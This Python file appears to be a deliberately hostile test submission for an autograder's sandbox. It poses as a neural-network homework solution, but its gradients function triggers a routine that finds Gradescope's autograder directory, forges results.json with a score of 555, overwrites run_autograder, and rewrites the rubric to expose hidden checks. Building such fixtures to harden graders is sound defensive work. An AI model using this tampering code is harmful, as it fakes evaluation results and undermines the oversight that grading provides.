# Hostile submission: attacks Gradescope's autograder tree (submissions/hostile/README.md).
# Gradescope runs /autograder/run_autograder as root; without namespaces the child could
# write anything there. Once, from `gradescope_rewrite`'s `gradients`, it looks for the
# tree (/autograder, and every /proc/*/cwd and its parents holding run_autograder and
# source/rubric.toml) and: writes results/results.json with a score of 555, rewrites
# the running run_autograder so that it writes that file again and exits 0, and
# rewrites source/rubric.toml (hidden checks made public, every check worth 555).
# Its own gradients return zeros. Graded as Gradescope does
# (tests/grader/test_e2e_gradescope_deploy.py), nothing of this may reach the results.
# Untrusted on purpose: grade it only through the grader's sandbox, never import or run it.

import json
import os
import re

import numpy as np

FORGED = {"score": 555.0, "output": "gradescope_rewrite: forged results", "tests": []}
_DONE = []


def _autograder_roots():
    """Folders that look like Gradescope's /autograder, from what this process can see."""
    places = {"/autograder"}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                path = os.readlink(f"/proc/{pid}/cwd")
            except OSError:
                continue
            while path not in ("/", ""):
                places.add(path)
                path = os.path.dirname(path)
    return sorted(
        p
        for p in places
        if os.path.isfile(os.path.join(p, "run_autograder"))
        and os.path.isfile(os.path.join(p, "source", "rubric.toml"))
    )


def _try(what, fn):
    try:
        fn()
        print(f"gradescope_rewrite: {what}")
    except OSError as e:
        print(f"gradescope_rewrite: could not {what.split(' ', 1)[0]} ({e})")


def _attack():
    if _DONE:
        return
    _DONE.append(True)
    roots = _autograder_roots()
    if not roots:
        print("gradescope_rewrite: found no autograder")
    for root in roots:
        results = os.path.join(root, "results", "results.json")
        script = os.path.join(root, "run_autograder")
        rubric = os.path.join(root, "source", "rubric.toml")

        def forge_results():
            os.makedirs(os.path.dirname(results), exist_ok=True)
            with open(results, "w") as f:
                json.dump(FORGED, f)

        def rewrite_script():
            with open(script, "w") as f:
                f.write("#!/usr/bin/env bash\n")
                f.write(f"echo '{json.dumps(FORGED)}' > '{results}'\nexit 0\n")

        def rewrite_rubric():
            with open(rubric) as f:
                text = f.read()
            text = text.replace('visibility = "hidden"', 'visibility = "public"')
            text = re.sub(r"(?m)^points = .*$", "points = 555", text)
            with open(rubric, "w") as f:
                f.write(text)

        _try(f"wrote {results}", forge_results)
        _try(f"rewrote {script}", rewrite_script)
        _try(f"rewrote {rubric}", rewrite_rubric)


def sigmoid(Z):
    """phi(Z) = 1 / (1 + exp(-Z)), elementwise."""
    return 1.0 / (1.0 + np.exp(-Z))


def forward(params, X):
    """Forward pass. Returns the list [A1, A2, ..., A_{L+1}] with A1 = X."""
    L = len(params) // 2
    A = [X]
    for l in range(1, L + 1):
        Z = params[f"W{l}"] @ A[-1] + params[f"b{l}"]
        A.append(sigmoid(Z))
    return A


def cost(params, X, Y, C):
    """J = sum((Y - A_out)^2) + C/2 * sum of ||W_l||^2."""
    L = len(params) // 2
    A_out = forward(params, X)[-1]
    penalty = sum(np.sum(params[f"W{l}"] ** 2) for l in range(1, L + 1))
    return np.sum((Y - A_out) ** 2) + C / 2 * penalty


def gradients(params, X, Y, C):
    """Attacks the autograder tree once, then returns zeros (never the right gradient)."""
    _attack()
    return {f"d{k}": np.zeros_like(v) for k, v in params.items()}


def momentum_step(params, grads, rho_prev, eta, alpha):
    """One step of momentum; rho_prev and the returned rho are keyed like params."""
    new_params, rho = {}, {}
    for name in params:
        rho[name] = eta * grads["d" + name]
        new_params[name] = params[name] - rho[name] - alpha * rho_prev[name]
    return new_params, rho


def learning_rate(eta0, d, epoch):
    """The learning rate of epoch `epoch` (0-based)."""
    return eta0 / (1 + d * epoch)


def one_hot(y, K):
    """Labels 0..K-1, shape (N,) -> one-hot targets (K, N)."""
    Y = np.zeros((K, len(y)))
    Y[y, np.arange(len(y))] = 1.0
    return Y


def predict(params, X):
    """Class indices argmax(A_out) per column, shape (N,)."""
    return np.argmax(forward(params, X)[-1], axis=0)


def train(params, X, y, orders, eta, alpha, C, d, minibatches):
    """Returns (params, cost (E,), accuracy (E+1,))."""
    L = len(params) // 2
    Y = one_hot(y, params[f"W{L}"].shape[0])
    params = {name: W.copy() for name, W in params.items()}
    rho = {name: np.zeros_like(W) for name, W in params.items()}
    costs, accuracy = [], [np.mean(predict(params, X) == y)]
    for epoch, order in enumerate(orders):
        eta_k = learning_rate(eta, d, epoch)
        for idx in np.array_split(order, minibatches):
            grads = gradients(params, X[:, idx], Y[:, idx], C)
            params, rho = momentum_step(params, grads, rho, eta_k, alpha)
        costs.append(cost(params, X, Y, C))
        accuracy.append(np.mean(predict(params, X) == y))
    return params, np.array(costs), np.array(accuracy)
